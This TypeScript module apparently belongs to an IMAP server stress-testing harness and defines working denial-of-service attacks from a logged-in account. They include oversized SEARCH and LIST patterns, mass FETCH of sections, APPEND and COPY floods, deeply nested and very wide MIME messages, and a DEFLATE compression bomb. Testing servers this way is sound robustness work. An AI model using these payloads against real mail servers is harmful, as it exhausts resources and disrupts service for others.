/** Who has an account, and asks of his mailboxes what is dear: searches, patterns, sections, copies, bombs. */
import { deflateRawSync } from 'node:zlib'
import { type Attack, imap, over, type Tally, type Time, type Victim } from './attack.ts'

const MB = 1_048_576

/** How long an answer is waited for: behind it the next session asks. */
const PATIENCE_MS = 5_000

/** One command after another, each in a session of its own, so many at once; how many were answered. */
async function commands(
  victim: Victim,
  time: Time,
  atOnce: number,
  text: (n: number) => string,
): Promise<Tally> {
  let asked = 0
  let answered = 0
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      let raw = await imap(victim)
      await over(time, 1, async () => {
        if (raw.gone) raw = await imap(victim)
        asked += 1
        const patienceMs = Math.min(PATIENCE_MS, Math.max(0, time.left()))
        if (await raw.say(`c ${text(asked)}`, /^c /m, patienceMs)) answered += 1
        // What is still being answered belongs to no later command.
        else raw.end()
      })
      raw.end()
    }),
  )
  return { asked, answered }
}

/** The longest list that one line holds. */
const repeated = (piece: string, octets = 60_000) =>
  piece.repeat(Math.floor(octets / piece.length)).trimEnd()

const search: Attack = {
  name: 'search-bomb',
  run: async (victim, time) => {
    const keys = [
      repeated('TEXT zq ', 900),
      `${repeated('OR TEXT a TEXT b ', 900)} ALL`,
      `${'('.repeat(20_000)}ALL${')'.repeat(20_000)}`,
      `${'NOT '.repeat(10_000)}ALL`,
      repeated('BODY x '),
      `UID ${repeated('1:*,', 60_000).slice(0, -1)}`,
      `HEADER Subject ${'a'.repeat(50_000)}`,
    ]
    return commands(victim, time, 4, n => `UID SEARCH ${keys[n % keys.length]}`)
  },
}

const list: Attack = {
  name: 'list-bomb',
  // Each is on the disk before it is answered: one after another they took longer than the attack itself.
  prepare: async (victim, scale) => {
    const names = Array.from(
      { length: 100 * scale },
      (_, n) => `${'a'.repeat(60)}/${'b'.repeat(60)}${n}`,
    )
    const makers = await Promise.all(Array.from({ length: 10 }, () => imap(victim)))
    await Promise.all(
      makers.map(async maker => {
        for (let name = names.pop(); name !== undefined; name = names.pop())
          await maker.say(`c CREATE ${name}`, /^c /m)
        maker.end()
      }),
    )
  },
  run: async (victim, time) => {
    const patterns = ['*a'.repeat(100), '%a'.repeat(100), '*%'.repeat(1000), `${'*a'.repeat(500)}z`]
    return commands(victim, time, 4, n => `LIST "" ${patterns[n % patterns.length]}`)
  },
}

const sections: Attack = {
  name: 'ten-thousand-sections',
  run: async (victim, time) => {
    const items = [
      repeated('BODY.PEEK[] '),
      repeated('BODY.PEEK[1.2.3.4] '),
      repeated('BODY.PEEK[HEADER.FIELDS (a)] '),
      repeated('ENVELOPE BODYSTRUCTURE '),
      `BODY.PEEK[HEADER.FIELDS (${repeated('a ')})]`,
      `BODY.PEEK[${repeated('1.').slice(0, -1)}]`,
      repeated('BINARY.PEEK[1] '),
    ]
    return commands(victim, time, 4, n => `UID FETCH 1:* (${items[n % items.length]})`)
  },
}

const appends: Attack = {
  name: 'appends-and-copies',
  run: async (victim, time) => {
    const body = `Subject: x\r\n\r\n${'z'.repeat(2000)}\r\n`
    const text = (n: number) =>
      n % 10 === 9 ? 'COPY 1:* INBOX' : `APPEND INBOX${` {${body.length}+}\r\n${body}`.repeat(20)}`
    return commands(victim, time, 4, text)
  },
}

/** A tree of parts as deep and wide as a message can hold, and all questions about it. */
const mime: Attack = {
  name: 'mime-bomb',
  prepare: async victim => {
    const deep = Array.from(
      { length: 5000 },
      (_, n) => `Content-Type: multipart/mixed; boundary=b${n}\r\n\r\n--b${n}\r\n`,
    ).join('')
    const wide = `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\nx\r\n'.repeat(100_000)}--b--\r\n`
    const nested = 'Content-Type: message/rfc822\r\n\r\n'.repeat(10_000)
    const same = `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'.repeat(20_000)}`
    const long = `Content-Type: multipart/mixed; ${'a=b; '.repeat(100_000)}boundary=b\r\n\r\n--b\r\n`
    const raw = await imap(victim)
    for (const body of [deep, wide, nested, same, long]) {
      await raw.say(`c APPEND INBOX {${body.length}+}\r\n${body}`, /^c /m)
    }
    raw.end()
  },
  run: async (victim, time) => {
    const asked = [
      'BODYSTRUCTURE',
      '(BODY.PEEK[1.1.1.1] BODY)',
      '(ENVELOPE RFC822.SIZE BODY.PEEK[TEXT]<0.10>)',
      'BINARY.SIZE[1]',
    ]
    return commands(victim, time, 4, n => `UID FETCH 1:* ${asked[n % asked.length]}`)
  },
}

/** A few KB that become GB (RFC 4978). */
const bomb: Attack = {
  name: 'compression-bomb',
  run: async (victim, time) => {
    const zeros = deflateRawSync(Buffer.alloc(64 * MB, 'x'))
    const lines = deflateRawSync(Buffer.from('a NOOP\r\n'.repeat(MB)))
    let n = 0
    await over(time, 3, async () => {
      const raw = await imap(victim)
      await raw.say('c COMPRESS DEFLATE', /^c /m)
      for (let sent = 0; sent < 10 && !raw.gone && time.left() > 0; sent++) {
        await raw.write(n % 2 === 0 ? zeros : lines)
      }
      n += 1
      raw.end()
    })
    return { bombs: n }
  },
}

export const mailboxes: readonly Attack[] = [search, list, sections, appends, mime, bomb]
